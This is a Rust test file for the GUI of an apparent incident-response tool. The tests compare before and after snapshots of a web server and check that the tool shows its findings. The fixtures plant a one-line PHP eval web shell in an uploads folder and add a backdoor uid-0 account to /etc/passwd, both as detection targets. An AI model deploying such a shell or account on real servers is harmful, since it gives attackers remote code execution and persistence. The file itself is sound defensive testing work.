//! The Compare and Findings screens driven like a user with egui_kittest:
//! two generated snapshots of a web server (before and after a compromise)
//! are captured with the core library, then compared through the window;
//! widgets are found by role and label, and every assertion reads back what
//! the window shows. Runs headless under plain `cargo test`.
//!
//! `frame_time_with_a_million_entry_diff` (ignored by default) measures the
//! compare screen's frame time with a 1,000,000-entry, 1%-changed diff:
//! `cargo test --release --test gui_compare -- --ignored --nocapture`.
#![cfg(feature = "gui")]
#![allow(clippy::unwrap_used)]

use crate::util::gui::*;
use crate::util::write;

use egui::accesskit::Role;
use egui_kittest::kittest::Queryable as _;
use exhibit::gui::Screen;
use exhibit::gui::Settings;
use std::path::{Path, PathBuf};
use std::time::Instant;

fn harness() -> H {
    app(1440.0, 1000.0, Settings::default())
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
const ACCESS: &str = "203.0.113.5 - - [22/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 512\n";
const SHELL: &str = "<?php eval(base64_decode($_POST['c'])); ?>\n";

/// A web server before and after: the after side gains a PHP web shell in
/// the upload folder, a second uid-0 account, and more access-log lines.
fn trees(dir: &Path) -> (PathBuf, PathBuf) {
    let (old, new) = (dir.join("before"), dir.join("after"));
    for root in [&old, &new] {
        write(root, "etc/passwd", PASSWD.as_bytes());
        write(root, "etc/hostname", b"web01\n");
        write(
            root,
            "var/www/html/index.php",
            b"<?php echo 'Welcome'; ?>\n",
        );
        write(
            root,
            "var/www/html/uploads/logo.png",
            b"\x89PNG\r\n\x1a\n0000",
        );
        write(root, "var/log/apache2/access.log", ACCESS.as_bytes());
    }
    write(
        &new,
        "etc/passwd",
        format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n").as_bytes(),
    );
    write(&new, "var/www/html/uploads/cache.php", SHELL.as_bytes());
    write(
        &new,
        "var/log/apache2/access.log",
        format!("{ACCESS}198.51.100.7 - - [22/Nov/2026:11:00:00 +0000] \"POST /uploads/cache.php HTTP/1.1\" 200 31\n").as_bytes(),
    );
    (old, new)
}

/// Capture a tree as a target root through the core library.
fn core_capture(root: &Path, out: &Path) -> PathBuf {
    let mut req = crate::util::root_request(root, out, "IR-6");
    req.compression = exhibit::capture::Compression::Store;
    crate::util::run_capture(&req)
}

fn archives(dir: &Path) -> (PathBuf, PathBuf) {
    let (old, new) = trees(dir);
    let a = core_capture(&old, &dir.join("out-before"));
    let b = core_capture(&new, &dir.join("out-after"));
    (a, b)
}

/// A file dropped on the window, as the windowing layer hands it over.
#[derive(Debug)]
struct Dropped(PathBuf);

impl egui::DroppedFile for Dropped {
    fn path(&self) -> &Path {
        &self.0
    }
    fn bytes(&self) -> Result<Vec<u8>, String> {
        std::fs::read(&self.0).map_err(|e| e.to_string())
    }
}

fn run_compare(h: &mut H, old: &Path, new: &Path) {
    click(h, "Compare");
    type_into(h, "Baseline (before)", &old.display().to_string());
    type_into(h, "Incident (after)", &new.display().to_string());
    click(h, "Run comparison");
    wait_until(h, "the comparison to finish", |h| {
        h.state().v::<CompareView>().model.is_some() || h.state().v::<CompareView>().error.is_some()
    });
    assert!(
        h.state().v::<CompareView>().error.is_none(),
        "{:?}",
        h.state().v::<CompareView>().error
    );
}

#[test]
fn compare_two_archives_shows_counts_findings_and_line_diffs() {
    let tmp = tempfile::tempdir().unwrap();
    let (a, b) = archives(tmp.path());
    let mut h = harness();
    h.step();
    run_compare(&mut h, &a, &b);
    assert_eq!(h.state().screen, Screen::COMPARE);

    // The counts per class, as the class filter shows them.
    assert!(shows(&h, "added (1)"), "the web shell is one added file");
    assert!(shows(&h, "appended (1)"), "the access log grew");
    assert!(shows(&h, "modified (1)"), "/etc/passwd changed");

    // The most severe finding is at the top of the findings panel.
    let model = std::sync::Arc::clone(h.state().v::<CompareView>().model.as_ref().unwrap());
    let findings = &model.result.findings;
    let first = findings.first().unwrap();
    wait_until(&mut h, "the findings list", |h| {
        h.query_all_by_role_and_label(Role::Link, &first.title)
            .next()
            .is_some()
    });
    let top = h
        .get_all_by_role_and_label(Role::Link, &first.title)
        .next()
        .unwrap()
        .rect();
    assert!(
        h.get_all_by_role(Role::Link)
            .all(|n| n.rect().top() >= top.top()),
        "the first finding's card is the topmost"
    );
    assert!(
        first.severity >= exhibit::detect::Severity::High,
        "{first:?}"
    );
    let shell = findings
        .iter()
        .find(|f| {
            f.subject.path == "/var/www/html/uploads/cache.php"
                && f.severity >= exhibit::detect::Severity::High
        })
        .expect("a severe finding on the web shell")
        .clone();
    let uid0 = findings
        .iter()
        .find(|f| f.subject.path == "/etc/passwd" && f.severity >= exhibit::detect::Severity::High)
        .expect("a severe finding on the second uid-0 account")
        .clone();
    assert!(
        shows(&h, &shell.explanation[..40]),
        "cards explain themselves"
    );

    // A click on a finding opens its file's diff.
    click_link(&mut h, &uid0.title);
    wait_until(&mut h, "the passwd diff", |h| {
        shows(h, "+ toor:x:0:0::/root:/bin/bash")
    });
    assert!(shows(&h, "@@ -1,3 +1,4 @@"), "the hunk header is shown");
    assert!(
        shows(&h, "  www-data:x:33:33"),
        "context lines are shown on both sides"
    );
    click_link(&mut h, &shell.title);
    wait_until(&mut h, "the web shell's diff", |h| {
        shows(h, "+ <?php eval(base64_decode($_POST['c'])); ?>")
    });
    assert_eq!(
        h.state().v::<CompareView>().selected.map(|i| h
            .state()
            .v::<CompareView>()
            .model
            .as_ref()
            .unwrap()
            .result
            .changes[i]
            .path
            .clone()),
        Some("/var/www/html/uploads/cache.php".to_string())
    );

    // Filter by class: only the appended log is left.
    click(&mut h, "appended (1)");
    assert!(shows(&h, "Showing 1 of"), "one change is shown");
    assert!(
        h.query_all_by_label("/var/log/apache2/access.log")
            .next()
            .is_some()
    );
    assert!(h.query_all_by_label("/etc/hostname").next().is_none());
    // Hiding noise hides normal log growth.
    click(&mut h, "Hide noise");
    assert!(shows(&h, "Showing 0 of"));
    click(&mut h, "All classes");
    // A folder of the tree scopes the table.
    h.get_by_label_contains("etc  ").click();
    h.step();
    h.step();
    assert_eq!(
        h.state().v::<CompareView>().filter.folder.as_deref(),
        Some("/etc")
    );
    let model = h.state().v::<CompareView>().model.as_ref().unwrap();
    let in_etc: Vec<&str> = h
        .state()
        .v::<CompareView>()
        .rows
        .iter()
        .map(|&i| model.result.changes[i as usize].path.as_str())
        .collect();
    assert!(in_etc.contains(&"/etc/passwd"), "{in_etc:?}");
    assert!(in_etc.iter().all(|p| p.starts_with("/etc/")), "{in_etc:?}");
    click(&mut h, "All folders");
    let rows = h.state().v::<CompareView>().rows.clone();
    let model = h.state().v::<CompareView>().model.as_ref().unwrap();
    let shown: Vec<&str> = rows
        .iter()
        .map(|&i| model.result.changes[i as usize].path.as_str())
        .collect();
    assert!(shown.contains(&"/etc/passwd"), "{shown:?}");
    assert!(
        shown.contains(&"/var/www/html/uploads/cache.php"),
        "{shown:?}"
    );
    assert!(!shown.contains(&"/var/log/apache2/access.log"), "{shown:?}");

    // The selected file opens in the evidence browser of the incident archive.
    click(&mut h, "Open in evidence browser");
    assert_eq!(h.state().screen, Screen::EVIDENCE);
    assert_eq!(
        h.state().v::<BrowserView>().query.text,
        "/var/www/html/uploads/cache.php"
    );
    assert_eq!(
        h.state().v::<BrowserView>().path.text,
        b.display().to_string()
    );
}

#[test]
fn compare_an_archive_with_a_folder_and_filter_by_path() {
    let tmp = tempfile::tempdir().unwrap();
    let (old, new) = trees(tmp.path());
    let a = core_capture(&old, &tmp.path().join("out-before"));
    let mut h = harness();
    h.step();
    click(&mut h, "Compare");
    // Dropped on the Compare screen: the baseline first, then the incident.
    for p in [&a, &new] {
        h.input_mut()
            .dropped_files
            .push(std::sync::Arc::new(Dropped(p.clone())));
        h.step();
    }
    h.step();
    assert_eq!(
        h.state().v::<CompareView>().old.text,
        a.display().to_string()
    );
    assert_eq!(
        h.state().v::<CompareView>().new.text,
        new.display().to_string()
    );
    assert_eq!(
        h.state().screen,
        Screen::COMPARE,
        "a drop here is not a capture source"
    );
    click(&mut h, "Run comparison");
    wait_until(&mut h, "the comparison", |h| {
        h.state().v::<CompareView>().model.is_some() || h.state().v::<CompareView>().error.is_some()
    });
    assert!(
        h.state().v::<CompareView>().error.is_none(),
        "{:?}",
        h.state().v::<CompareView>().error
    );
    assert!(shows(&h, "added (1)"));
    type_into(&mut h, "Filter paths", "passwd");
    wait_until(&mut h, "the filtered rows", |h| shows(h, "Showing 1 of"));
    assert!(h.query_all_by_label("/etc/passwd").next().is_some());
    // The source folder was only read.
    assert_eq!(
        std::fs::read_to_string(new.join("var/www/html/uploads/cache.php")).unwrap(),
        SHELL
    );
}

#[test]
fn a_missing_snapshot_is_a_readable_error() {
    let tmp = tempfile::tempdir().unwrap();
    let mut h = harness();
    h.step();
    click(&mut h, "Compare");
    click(&mut h, "Run comparison");
    assert!(shows(&h, "choose both snapshots first"));
    type_into(
        &mut h,
        "Baseline (before)",
        &tmp.path().join("nope.zip").display().to_string(),
    );
    type_into(
        &mut h,
        "Incident (after)",
        &tmp.path().display().to_string(),
    );
    click(&mut h, "Run comparison");
    wait_until(&mut h, "the error", |h| {
        h.state().v::<CompareView>().error.is_some()
    });
    assert!(shows(&h, "The comparison could not run"));
    assert!(shows(&h, "nope.zip"), "the message names the file");
}

#[test]
fn scan_one_snapshot_and_open_the_file_in_the_browser() {
    let tmp = tempfile::tempdir().unwrap();
    let (_, b) = archives(tmp.path());
    let mut h = harness();
    h.step();
    click(&mut h, "Findings");
    type_into(&mut h, "Snapshot to scan", &b.display().to_string());
    click(&mut h, "Scan for findings");
    wait_until(&mut h, "the scan", |h| {
        h.state().v::<FindingsView>().model.is_some()
            || h.state().v::<FindingsView>().error.is_some()
    });
    assert!(
        h.state().v::<FindingsView>().error.is_none(),
        "{:?}",
        h.state().v::<FindingsView>().error
    );
    let findings = &h
        .state()
        .v::<FindingsView>()
        .model
        .as_ref()
        .unwrap()
        .findings;
    let shell = findings
        .iter()
        .find(|f| f.subject.path == "/var/www/html/uploads/cache.php")
        .expect("the web shell is found without a baseline")
        .clone();
    assert!(findings.windows(2).all(|w| w[0].severity >= w[1].severity));
    click_link(&mut h, &shell.title);
    h.step();
    h.step();
    assert!(shows(&h, "Findings on this file"));
    assert!(shows(&h, "eval(base64_decode"), "the evidence is shown");
    click(&mut h, "Open in evidence browser");
    assert_eq!(h.state().screen, Screen::EVIDENCE);
    assert_eq!(
        h.state().v::<BrowserView>().query.text,
        "/var/www/html/uploads/cache.php"
    );
}

/// Frame time of the compare screen with a 1,000,000 vs 1,000,000-entry diff
/// (1% changed) and 2,000 dropped scripts, scrolling the change table.
/// Measures the egui pass of each frame on the CPU (layout of every panel;
/// the harness neither tessellates nor paints).
#[test]
#[ignore]
fn frame_time_with_a_million_entry_diff() {
    use exhibit::gui::views::compare::model::DiffModel;
    use exhibit::snapshot::{Entry, Snapshot};
    const N: usize = 1_000_000;
    let sha = |i: usize, salt: u8| {
        let mut h = [0u8; 32];
        h[..8].copy_from_slice(&(i as u64).to_le_bytes());
        h[8] = salt;
        h
    };
    let entry = |i: usize| {
        let dir = i / 1000;
        let path = match i % 10 {
            0 => format!("/var/www/html/site{}/uploads/img{:07}.jpg", dir % 50, i),
            1 => format!("/var/log/app{}/part{:07}.log", dir % 20, i),
            2 => format!("/usr/lib/pkg{:04}/lib{:07}.so", dir, i),
            _ => format!("/srv/data/d{:04}/f{:07}.dat", dir, i),
        };
        let mut e = Entry::file(&path, 4096 + (i as u64 % 1000), sha(i, 0));
        e.inode = std::num::NonZeroU64::new(i as u64 + 100);
        e.mtime_ns = Some(1_700_000_000_000_000_000 + i as i64 * 1_000_000);
        e.ctime_ns = e.mtime_ns;
        e
    };
    let old: Vec<Entry> = (0..N).map(entry).collect();
    let mut new = Vec::with_capacity(N);
    for (i, e) in old.iter().enumerate() {
        let mut n = e.clone();
        if i % 100 == 7 {
            match (i / 100) % 5 {
                0 => n.sha256 = Some(sha(i, 1)),
                1 => n.mode = 0o755,
                2 => continue,
                3 => n.path.push_str(".moved"),
                _ => n.uid = Some(0),
            }
        }
        new.push(n);
    }
    // 2,000 scripts dropped in upload folders: findings to list.
    for i in 0..N / 500 {
        let mut e = entry(N + i);
        e.path = format!("/var/www/html/site{}/uploads/shell{i:05}.php", i % 50);
        new.push(e);
    }
    let rules = exhibit::detect::files::Rules::load(None).unwrap();
    let t0 = Instant::now();
    let result = exhibit::examine::diff_snapshots(
        Snapshot::from_entries("old", old),
        Snapshot::from_entries("new", new),
        Some(&rules),
        &exhibit::detect::files::HashSets::default(),
    );
    let diff_ms = t0.elapsed().as_millis();
    let t1 = Instant::now();
    let model = DiffModel::build(result, diff_ms);
    let model_ms = t1.elapsed().as_millis();
    let (changes, findings, folders) = (
        model.result.changes.len(),
        model.result.findings.len(),
        model.tree.nodes.len(),
    );
    let first_path = model.result.changes[0].path.clone();
    let mut h = harness();
    h.state_mut().screen = Screen::COMPARE;
    h.state_mut().v_mut::<CompareView>().set_model(model);
    // A selected change: its attributes and findings are drawn too.
    let shell = h.state().v::<CompareView>().model.as_ref().and_then(|m| {
        m.result
            .changes
            .iter()
            .position(|c| c.path.ends_with(".php"))
    });
    h.state_mut().v_mut::<CompareView>().selected = shell;
    h.step();
    // Select a change so the detail pane is drawn too.
    let t_first = Instant::now();
    h.step();
    let first_ms = t_first.elapsed().as_secs_f64() * 1e3;
    let table = h.get_by_label_contains("Showing ").rect().center() + egui::vec2(0.0, 120.0);
    let mut frames = Vec::new();
    for i in 0..300 {
        h.event(egui::Event::PointerMoved(table));
        h.event(egui::Event::MouseWheel {
            unit: egui::MouseWheelUnit::Point,
            delta: egui::vec2(0.0, if i < 250 { -120.0 } else { 120.0 }),
            modifiers: egui::Modifiers::NONE,
            source: egui::MouseWheelSource::Wheel,
            phase: egui::TouchPhase::Move,
        });
        let t = Instant::now();
        h.step();
        frames.push(t.elapsed().as_secs_f64() * 1e3);
    }
    h.step();
    assert!(
        h.query_all_by_label(&first_path).next().is_none(),
        "the table scrolled away from its first row"
    );
    frames.sort_by(f64::total_cmp);
    let p = |q: f64| frames[((frames.len() - 1) as f64 * q) as usize];
    eprintln!(
        "changes={changes} findings={findings} folders={folders} diff_ms={diff_ms} model_ms={model_ms} \
         first_frame_ms={first_ms:.1} frame_ms median={:.2} p95={:.2} max={:.2}",
        p(0.5),
        p(0.95),
        p(1.0)
    );
    assert!(p(0.5) < 16.7, "median frame {:.1} ms", p(0.5));
}

/// The rules folder typed in the window reaches the scan: a rule of the
/// examiner's own raises its finding, which the built-in rules alone do not.
#[test]
fn the_rules_folder_setting_reaches_the_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let (_, b) = archives(tmp.path());
    let rules = tmp.path().join("my-rules");
    write(
        &rules,
        "local.toml",
        br#"[[rule]]
id = "local.hostname_seen"
severity = "high"
scan = "high"
title = "Our own rule saw the hostname file"
explanation = "A rule from the examiner's rules folder."
paths = ["/etc/hostname"]
"#,
    );
    let mut h = harness();
    h.step();
    click(&mut h, "Findings");
    type_into(&mut h, "Rules folder", &rules.display().to_string());
    assert_eq!(h.state().settings.rules_dir, rules.display().to_string());
    type_into(&mut h, "Snapshot to scan", &b.display().to_string());
    click(&mut h, "Scan for findings");
    wait_until(&mut h, "the scan", |h| {
        h.state().v::<FindingsView>().model.is_some()
            || h.state().v::<FindingsView>().error.is_some()
    });
    let v = h.state().v::<FindingsView>();
    assert!(v.error.is_none(), "{:?}", v.error);
    let m = v.model.as_ref().unwrap();
    assert!(
        m.findings.iter().any(|f| f.rule == "local.hostname_seen"),
        "the examiner's rule ran"
    );
    wait_until(&mut h, "its card", |h| {
        shows(h, "Our own rule saw the hostname file")
    });
}

/// The web server trees with `added` files written on the after side,
/// captured and compared in a 1024×700 window, the changes table shown.
fn laptop_compare(dir: &Path, added: &[(&str, &str)]) -> H {
    let (old, new) = trees(dir);
    for (p, c) in added {
        write(&new, p, c.as_bytes());
    }
    let a = core_capture(&old, &dir.join("out-before"));
    let b = core_capture(&new, &dir.join("out-after"));
    let mut h = app(1024.0, 700.0, Settings::default());
    h.step();
    run_compare(&mut h, &a, &b);
    wait_until(&mut h, "the changes table", |h| shows(h, "What changed"));
    h
}

/// At 1024×700 (a laptop) the changes table fits beside the findings
/// without sideways scrolling: the folder tree starts folded away (one
/// click shows it), every column header is on screen, and a deep path loses
/// its middle, keeping where it lives and its file name.
#[test]
fn compare_on_a_laptop_screen_shows_whole_rows_and_paths_elided_in_the_middle() {
    let tmp = tempfile::tempdir().unwrap();
    let deep = "var/www/html/wp-content/uploads/2026/12/themes/storefront/assets/vendor/backdoor-payload.php";
    let mut h = laptop_compare(tmp.path(), &[(deep, SHELL)]);
    assert!(
        !shows(&h, "Folders"),
        "the tree starts folded on a laptop screen"
    );
    for header in ["Severity", "Change", "Path", "Size", "What changed"] {
        let r = h.get_by_label(header).rect();
        assert!(r.right() <= 1024.0, "{header} header off screen: {r:?}");
    }
    type_into(&mut h, "Filter paths", "backdoor");
    wait_until(&mut h, "the filtered table", |h| shows(h, "Showing 1 of"));
    let cell = h
        .query_all_by_label_contains("backdoor-payload.php")
        .find(|n| n.value().is_some_and(|l| l.contains('…')))
        .unwrap_or_else(|| {
            let all: Vec<_> = h
                .query_all_by_label_contains("payload")
                .map(|n| (n.value(), n.rect()))
                .collect();
            panic!("the deep path, elided, not among {all:?}")
        });
    let text = cell.value().unwrap();
    assert!(text.starts_with("/var/"), "the start is kept: {text}");
    assert!(
        text.ends_with("/backdoor-payload.php"),
        "the name is kept: {text}"
    );
    assert!(cell.rect().right() <= 1024.0, "{:?}", cell.rect());
    click(&mut h, "Folder tree");
    wait_until(&mut h, "the folder tree", |h| shows(h, "Folders"));
}

/// At 1024×700, clicking a row low in the changes table opens the detail
/// pane below it, which takes half the table's height: the clicked row is
/// scrolled back into view rather than left hidden behind the pane.
#[test]
fn on_a_laptop_screen_the_clicked_row_stays_in_view_when_the_details_open() {
    let tmp = tempfile::tempdir().unwrap();
    let added: Vec<(String, &str)> = (0..40)
        .map(|i| (format!("srv/new/f{i:02}.txt"), "new file\n"))
        .collect();
    let added: Vec<(&str, &str)> = added.iter().map(|(p, c)| (p.as_str(), *c)).collect();
    let mut h = laptop_compare(tmp.path(), &added);
    // The lowest row fully on screen before the pane opens (above the
    // hint that stands in for it).
    let hint_top = h
        .query_all_by_label_contains("Select a change in the table")
        .map(|n| n.rect().top())
        .next()
        .unwrap_or(690.0);
    let low = (0..40)
        .map(|i| format!("/srv/new/f{i:02}.txt"))
        .filter_map(|p| {
            let bottom = h
                .query_all_by_label_contains(&p)
                .map(|n| n.rect().bottom())
                .find(|&b| b < hint_top)?;
            Some((p, bottom))
        })
        .max_by(|x, y| x.1.total_cmp(&y.1))
        .map(|(p, _)| p)
        .expect("rows of new files on screen");
    click_row(&mut h, &low);
    wait_until(&mut h, "the detail pane", |h| {
        shows(h, "Open in evidence browser")
    });
    for _ in 0..4 {
        h.step();
    }
    let pane_top = h.get_by_label("Open in evidence browser").rect().top();
    let rows: Vec<egui::Rect> = h
        .query_all_by_label_contains(&low)
        .map(|n| n.rect())
        .collect();
    assert!(
        rows.iter()
            .any(|r| r.bottom() <= pane_top && r.top() >= 0.0),
        "the clicked row {low} is hidden behind the detail pane (top {pane_top}): drawn at {rows:?}"
    );
}
